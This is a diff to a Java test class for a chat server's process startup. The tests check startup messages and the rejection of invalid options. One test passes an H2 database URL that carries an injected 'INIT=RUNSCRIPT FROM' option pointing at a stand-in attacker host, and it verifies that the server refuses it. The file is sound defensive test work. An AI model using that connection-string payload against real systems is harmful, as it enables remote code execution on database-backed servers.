@@ -83,6 +83,28 @@ class ServerProcessTest {
     }
 
     @Test
+    void ofADatabaseInMemoryItIsSaidThatItWillBeForgotten() {
+        Map<String, String> memory = Map.of("PARLEY_DATABASE_URL", "jdbc:h2:mem:x");
+        try (ServerProcess open = ServerProcess.start(memory);
+                ServerProcess closed = ServerProcess.start(memory, "--registration", "closed")) {
+            open.stop();
+            closed.stop();
+
+            assertThat(open.output()).contains("in memory: all is forgotten").doesNotContain("chat-cli");
+            assertThat(closed.output())
+                    .contains("start with --registration open")
+                    .doesNotContain("chat-cli");
+        }
+    }
+
+    @Test
+    void aDataFolderThatIsNoFolderIsOneLineAndOne() {
+        Child child = Child.run(Child.SERVER, Map.of(), "--port", "0", "--data-dir", "/dev/null");
+
+        failedWith(child, 1, "/dev/null is there and is no folder.");
+    }
+
+    @Test
     void aPortInUseIsOneLineAndOne() throws IOException {
         try (ServerSocket taken = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
             Child child = Child.run(Child.SERVER, database, "--port", String.valueOf(taken.getLocalPort()));
@@ -127,10 +149,14 @@ class ServerProcessTest {
     }
 
     @Test
-    void h19_dangerousOptionsInTheDatabaseUrlAreOneLineAndOne() {
+    void h19_dangerousOptionsInTheDatabaseUrlAreOneLineAndTwo() {
         String url = "jdbc:h2:file:" + folder.resolve("x") + ";INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'";
 
-        failedWith(Child.run(Child.SERVER, Map.of(), "--database-url", url), 1, "INIT is not allowed");
+        failedWith(
+                Child.run(Child.SERVER, Map.of(), "--database-url", url),
+                2,
+                "database-url = " + url + " (flag --database-url): ",
+                "INIT is not allowed");
     }
 
     @Test
@@ -139,6 +165,11 @@ class ServerProcessTest {
                 Child.run(Child.SERVER, database, "--port", "0", "--public-url", "ftp://chat"),
                 2,
                 "public-url = ftp://chat (flag --public-url)");
+        failedWith(
+                Child.run(Child.SERVER, database, "--port", "0", "--public-url", "https://x/ch%20at"),
+                2,
+                "public-url = https://x/ch%20at (flag --public-url)");
+        assertThat(folder).isEmptyDirectory();
         failedWith(
                 Child.run(Child.SERVER, database, "--port", "0", "--trusted-proxies", "10.0.0.0/99"),
                 2,
